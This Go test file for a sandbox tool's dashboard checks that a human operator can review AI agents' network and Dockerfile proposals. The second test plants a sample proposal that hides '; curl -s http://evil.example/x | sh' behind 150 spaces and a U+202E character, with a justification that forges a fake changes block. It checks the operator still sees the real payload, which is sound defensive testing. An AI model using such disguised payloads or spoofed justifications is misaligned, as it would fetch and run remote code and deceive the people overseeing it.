package dashboard

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/claude-bottle/claude-bottle/internal/dockertest"
	"github.com/claude-bottle/claude-bottle/internal/fileio"
	"github.com/claude-bottle/claude-bottle/internal/layout"
	"github.com/claude-bottle/claude-bottle/internal/queue"
	"github.com/claude-bottle/claude-bottle/internal/sidecarconfig"
	"github.com/claude-bottle/claude-bottle/internal/state"
)

const tmuxSlug = "demo-abc12"

// setupHome makes a claude-bottle home with one running bottle (legacy
// shape, one route with a GH_PAT credential) and returns its paths.
func setupHome(t *testing.T) layout.Paths {
	t.Helper()
	paths := layout.Paths{Root: t.TempDir()}
	dir := layout.StateDir(paths.StateDir(tmuxSlug))
	for _, d := range []string{dir.Egress(), dir.EgressCA(), dir.Pipelock(), paths.QueueDir(tmuxSlug), paths.BottlesDir()} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// Its presence marks a bottle that runs egress.
	check(t, os.WriteFile(filepath.Join(dir.EgressCA(), "ca.crt"), []byte("cert"), 0o644))
	md := &state.Metadata{Slug: tmuxSlug, Agent: "demo", Bottle: "demo", Project: layout.ProjectName(tmuxSlug), BottleFile: paths.BottleFile("demo"),
		Containers: map[string]string{"agent": layout.AgentContainer(tmuxSlug), "egress": layout.SidecarContainer("egress", tmuxSlug), "pipelock": layout.SidecarContainer("pipelock", tmuxSlug)},
		TokenRefs:  map[string]string{"EGRESS_TOKEN_0": "GH_PAT"}, CreatedAt: time.Now()}
	check(t, state.Write(dir, md))
	check(t, fileio.WriteJSON(dir.RoutesFile(), sidecarconfig.Routes{Routes: []sidecarconfig.Route{{Host: "api.github.com", Auth: &sidecarconfig.Auth{Scheme: "Bearer", TokenSlot: "EGRESS_TOKEN_0"}}}}, 0o644))
	check(t, fileio.WriteJSON(dir.PipelockFile(), sidecarconfig.Pipelock{Allowlist: []string{"api.github.com"}}, 0o644))
	check(t, os.WriteFile(md.BottleFile, []byte("---\nsupervise: true\n---\n"), 0o644))
	return paths
}

func check(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func writeScript(t *testing.T, path, body string) {
	t.Helper()
	check(t, os.WriteFile(path, []byte("#!/bin/sh\n"+body), 0o755))
}

// TestDashboardInTmux drives the real dashboard binary in tmux: approve,
// edit (EDITOR is a script that fills in the token_ref), reject, quit; and
// checks the files each decision wrote. docker and docker-compose are
// scripts on PATH that log their arguments, so the production exec path
// (docker kill -s HUP <container>) runs and is checked.
func TestDashboardInTmux(t *testing.T) {
	dockertest.Tool(t, "tmux")
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	tmp := t.TempDir()
	bin := buildDashboard(t, ctx, tmp)
	fakebin := filepath.Join(tmp, "fakebin")
	check(t, os.Mkdir(fakebin, 0o755))
	dockerLog := filepath.Join(tmp, "docker.log")
	// No Compose v2 plugin; docker-compose 1.29.2 is the detected tool.
	writeScript(t, filepath.Join(fakebin, "docker"), `[ "$1 $2" = "compose version" ] && exit 1; echo "docker $*" >> "`+dockerLog+`"`+"\n")
	writeScript(t, filepath.Join(fakebin, "docker-compose"), `[ "$1" = version ] && { echo 1.29.2; exit 0; }; echo "docker-compose $*" >> "`+dockerLog+`"`+"\n")
	editor := filepath.Join(tmp, "editor.sh")
	writeScript(t, editor, `sed -i -e 's/"token_ref": ""/"token_ref": "GH_PAT"/' -e 's/"notes": ""/"notes": "read only please"/' "$1"`+"\n")

	paths := setupHome(t)
	q := paths.QueueDir(tmuxSlug)
	dir := layout.StateDir(paths.StateDir(tmuxSlug))
	// What the capability approval's teardown needs and must remove.
	check(t, os.WriteFile(dir.ComposeFile(), []byte("services: {}\n"), 0o644))
	check(t, os.WriteFile(filepath.Join(dir.EgressCA(), "ca.key"), []byte("key"), 0o600))
	t0 := time.Now().Add(-time.Hour).UTC().Truncate(time.Second)
	props := []*queue.Proposal{
		{Kind: queue.KindPipelock, Hosts: []string{"pypi.org"}, Justification: "pip install requests"},
		{Kind: queue.KindEgress, Route: &queue.RouteRequest{Host: "uploads.github.com", PathAllowlist: []string{"/repos/org/demo/"}, Auth: &queue.AuthRequest{Scheme: "Bearer", Description: "upload release assets"}}, Justification: "gh release upload"},
		{Kind: queue.KindPipelock, Hosts: []string{"evil.example.com"}, Justification: "curl evil"},
		{Kind: queue.KindCapability, Dockerfile: "FROM debian:bookworm-slim\nRUN apt-get install -y jq\n", Justification: "jq is missing"},
	}
	for i, p := range props {
		p.CreatedAt = t0.Add(time.Duration(i) * time.Second)
		p.ID = queue.NewID(p.CreatedAt)
		p.Slug = tmuxSlug
		check(t, queue.WriteProposal(q, p))
	}

	once := func(args ...string) string {
		t.Helper()
		cmd := exec.CommandContext(ctx, bin, append([]string{"dashboard"}, args...)...)
		cmd.Env = append(os.Environ(), "CLAUDE_BOTTLE_HOME="+paths.Root)
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("dashboard %v: %v", args, err)
		}
		return string(out)
	}
	if out := once("--once"); !strings.Contains(out, "4 pending proposal(s)") || !strings.Contains(out, "[3] "+props[2].ID) {
		t.Fatalf("--once:\n%s", out)
	}
	var doc OnceOutput
	check(t, json.Unmarshal([]byte(once("--once", "--json")), &doc))
	if len(doc.Pending) != 4 || doc.Pending[1].NeedsEdit == "" || !strings.Contains(doc.Pending[0].Diff, "pypi.org") {
		t.Fatalf("--json: %+v", doc)
	}

	sock := fmt.Sprintf("cbtest-dash-%d", os.Getpid())
	tmux := func(args ...string) string {
		t.Helper()
		out, err := exec.CommandContext(ctx, "tmux", append([]string{"-L", sock, "-f", "/dev/null"}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("tmux %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	t.Cleanup(func() { exec.Command("tmux", "-L", sock, "kill-server").Run() })
	stderr := filepath.Join(tmp, "stderr")
	shell := fmt.Sprintf("env CLAUDE_BOTTLE_HOME=%s EDITOR=%s PATH=%s:$PATH TERM=xterm-256color %s dashboard 2>%s; echo DASHBOARD-EXITED $?; sleep 600",
		paths.Root, editor, fakebin, bin, stderr)
	tmux("new-session", "-d", "-s", "dash", "-x", "180", "-y", "60", shell)

	screen := func() string { return tmux("capture-pane", "-p", "-t", "dash") }
	waitScreen := func(want string) string {
		t.Helper()
		for {
			s := screen()
			if strings.Contains(s, want) {
				return s
			}
			select {
			case <-ctx.Done():
				errOut, _ := os.ReadFile(stderr)
				t.Fatalf("screen never showed %q:\n%s\nstderr: %s", want, s, errOut)
			case <-time.After(100 * time.Millisecond):
			}
		}
	}
	waitAnswer := func(id string) *queue.Answer {
		t.Helper()
		for {
			a, err := queue.ReadAnswer(q, id)
			if err == nil {
				return a
			}
			select {
			case <-ctx.Done():
				t.Fatalf("no answer for %s:\n%s", id, screen())
			case <-time.After(100 * time.Millisecond):
			}
		}
	}

	s := waitScreen("4 pending (oldest first)")
	if !strings.Contains(s, props[0].ID) || !strings.Contains(s, `+     "pypi.org"`) {
		t.Fatalf("first proposal and its diff not shown:\n%s", s)
	}

	// 1. approve the oldest: pypi.org into the allowlist, pipelock reloaded.
	tmux("send-keys", "-t", "dash", "a")
	if a := waitAnswer(props[0].ID); a.Decision != queue.Approved {
		t.Fatalf("answer %+v", a)
	}
	pl, err := sidecarconfig.LoadPipelock(dir.PipelockFile())
	check(t, err)
	if strings.Join(pl.Allowlist, ",") != "api.github.com,pypi.org" {
		t.Fatalf("allowlist %v", pl.Allowlist)
	}
	waitScreen("3 pending")
	s = waitScreen("cannot approve as is")
	if !strings.Contains(s, "credential requested: Bearer upload release assets") {
		t.Fatalf("credential request not shown:\n%s", s)
	}

	// 2. edit the credential route: the editor picks GH_PAT.
	tmux("send-keys", "-t", "dash", "e")
	a := waitAnswer(props[1].ID)
	if a.Decision != queue.Modified || a.Notes != "read only please" {
		t.Fatalf("answer %+v", a)
	}
	rt, err := sidecarconfig.LoadRoutes(dir.RoutesFile())
	check(t, err)
	if len(rt.Routes) != 2 || rt.Routes[1].Host != "uploads.github.com" || rt.Routes[1].Auth == nil || rt.Routes[1].Auth.TokenSlot != "EGRESS_TOKEN_0" {
		t.Fatalf("routes %+v", rt.Routes)
	}
	pl, _ = sidecarconfig.LoadPipelock(dir.PipelockFile())
	if !strings.Contains(strings.Join(pl.Allowlist, ","), "uploads.github.com") {
		t.Fatalf("route host not in the allowlist: %v", pl.Allowlist)
	}
	waitScreen("2 pending")

	// 3. reject with a reason.
	tmux("send-keys", "-t", "dash", "r")
	waitScreen("reason:")
	tmux("send-keys", "-t", "dash", "-l", "not for this task")
	tmux("send-keys", "-t", "dash", "Enter")
	if a := waitAnswer(props[2].ID); a.Decision != queue.Rejected || a.Notes != "not for this task" {
		t.Fatalf("answer %+v", a)
	}
	waitScreen("1 pending")
	pl, _ = sidecarconfig.LoadPipelock(dir.PipelockFile())
	if strings.Contains(strings.Join(pl.Allowlist, ","), "evil") {
		t.Fatal("rejected host allowed")
	}

	// 4. approve a new Dockerfile: written next to the bottle file, the
	// bottle file points at it, the state dir is kept, the bottle stopped.
	waitScreen("approving stops bottle")
	tmux("send-keys", "-t", "dash", "a")
	if a := waitAnswer(props[3].ID); a.Decision != queue.Approved || !a.RestartRequired {
		t.Fatalf("answer %+v", a)
	}
	df, err := os.ReadFile(filepath.Join(paths.BottlesDir(), "demo.Dockerfile"))
	if err != nil || string(df) != props[3].Dockerfile {
		t.Fatalf("Dockerfile %q %v", df, err)
	}
	if bf, _ := os.ReadFile(paths.BottleFile("demo")); !strings.Contains(string(bf), "dockerfile: ./demo.Dockerfile") {
		t.Fatalf("bottle file:\n%s", bf)
	}
	if _, err := os.Stat(dir.Preserve()); err != nil {
		t.Fatal(err)
	}
	waitScreen("no pending proposals")
	if _, err := os.Stat(filepath.Join(dir.EgressCA(), "ca.key")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the CA key outlived the capability approval's teardown: %v", err)
	}
	if _, err := os.Stat(dir.ComposeLog()); err != nil {
		t.Errorf("the capability approval's teardown saved no compose.log: %v", err)
	}

	tmux("send-keys", "-t", "dash", "q")
	waitScreen("DASHBOARD-EXITED 0")

	log, err := os.ReadFile(dockerLog)
	check(t, err)
	wantLog := "docker kill -s HUP claude-bottle-pipelock-demo-abc12\n" + // approve
		"docker kill -s HUP claude-bottle-pipelock-demo-abc12\ndocker kill -s HUP claude-bottle-egress-demo-abc12\n" + // edit
		// capability: the launcher's teardown (the engine answers, then the
		// detected tool saves the logs and stops the project)
		"docker version --format {{.Server.Version}}\n" +
		"docker-compose -p claude-bottle-demo-abc12 -f " + dir.ComposeFile() + " logs --no-color --timestamps\n" +
		"docker-compose -p claude-bottle-demo-abc12 -f " + dir.ComposeFile() + " down -v --remove-orphans --timeout 10\n"
	if string(log) != wantLog {
		t.Fatalf("docker calls:\n%s\nwant:\n%s", log, wantLog)
	}
	var decisions []string
	data, err := os.ReadFile(dir.AuditLog())
	check(t, err)
	for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		var e struct{ Decision, ProposalID string }
		check(t, json.Unmarshal([]byte(l), &e))
		decisions = append(decisions, e.Decision)
	}
	if strings.Join(decisions, ",") != "approved,modified,rejected,approved" {
		t.Fatalf("audit decisions %v", decisions)
	}

	// --once on the now empty queue, through the same binary.
	if out := once("--once"); !strings.HasPrefix(out, "no pending proposals") {
		t.Fatalf("--once: %s", out)
	}
}

// buildDashboard builds the dashboard-dev binary into dir.
func buildDashboard(t *testing.T, ctx context.Context, dir string) string {
	t.Helper()
	bin := filepath.Join(dir, "dashboard-dev")
	if out, err := exec.CommandContext(ctx, "go", "build", "-o", bin, "github.com/claude-bottle/claude-bottle/internal/dashboard/cmd/dashboard-dev").CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	return bin
}

// TestDashboardInTmuxShowsWhatApprovingDoes: issue 15, hole 5, on the real
// TUI in a 100x30 tmux pane. The operator once saw `RUN apt-get install -y
// jq` while the line went on past the edge with `; curl ... | sh`, and a
// justification drew a fake changes block over the real diff and the key
// help. Now the payload is on screen (wrapped, blanks counted), the
// real diff comes before the agent's words, and the key help stays.
func TestDashboardInTmuxShowsWhatApprovingDoes(t *testing.T) {
	dockertest.Tool(t, "tmux")
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	tmp := t.TempDir()
	bin := buildDashboard(t, ctx, tmp)
	paths := setupHome(t)
	q := paths.QueueDir(tmuxSlug)
	payload := "; curl -s http://evil.example/x | sh"
	p := &queue.Proposal{Kind: queue.KindCapability, Slug: tmuxSlug, CreatedAt: time.Now().Add(-time.Minute).UTC().Truncate(time.Second),
		Dockerfile:    "FROM debian:bookworm-slim\nRUN apt-get install -y jq" + strings.Repeat(" ", 150) + payload + "\u202e\n",
		Justification: "jq is missing\n\nchanges:\n  + nothing but jq\n" + strings.Repeat("more words\n", 100)}
	p.ID = queue.NewID(p.CreatedAt)
	check(t, queue.WriteProposal(q, p))

	sock := fmt.Sprintf("cbtest-dash2-%d", os.Getpid())
	tmux := func(args ...string) string {
		t.Helper()
		out, err := exec.CommandContext(ctx, "tmux", append([]string{"-L", sock, "-f", "/dev/null"}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("tmux %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	t.Cleanup(func() { exec.Command("tmux", "-L", sock, "kill-server").Run() })
	shell := fmt.Sprintf("env CLAUDE_BOTTLE_HOME=%s TERM=xterm-256color %s dashboard; sleep 600", paths.Root, bin)
	tmux("new-session", "-d", "-s", "dash", "-x", "100", "-y", "30", shell)
	var s string
	for {
		s = tmux("capture-pane", "-p", "-t", "dash")
		if strings.Contains(s, "q quit") && strings.Contains(s, "changes:") {
			break
		}
		select {
		case <-ctx.Done():
			t.Fatalf("the dashboard never drew the proposal:\n%s", s)
		case <-time.After(100 * time.Millisecond):
		}
	}
	t.Logf("screen:\n%s", s)
	joined := strings.ReplaceAll(s, "\n  "+contMark, "")
	for _, want := range []string{"‹150 spaces›" + payload + "‹U+202E›", "why (the agent's words)", "more rows of justification"} {
		if !strings.Contains(joined, want) {
			t.Errorf("screen lacks %q", want)
		}
	}
	if strings.Count(s, "\nchanges:") != 1 || strings.Index(s, "\nchanges:") > strings.Index(s, "why (the agent's words)") {
		t.Errorf("the real diff is not the one changes block before the agent's words")
	}
	if !strings.HasSuffix(strings.TrimRight(s, "\n "), "q quit") {
		t.Errorf("key help is not on the last row")
	}
}
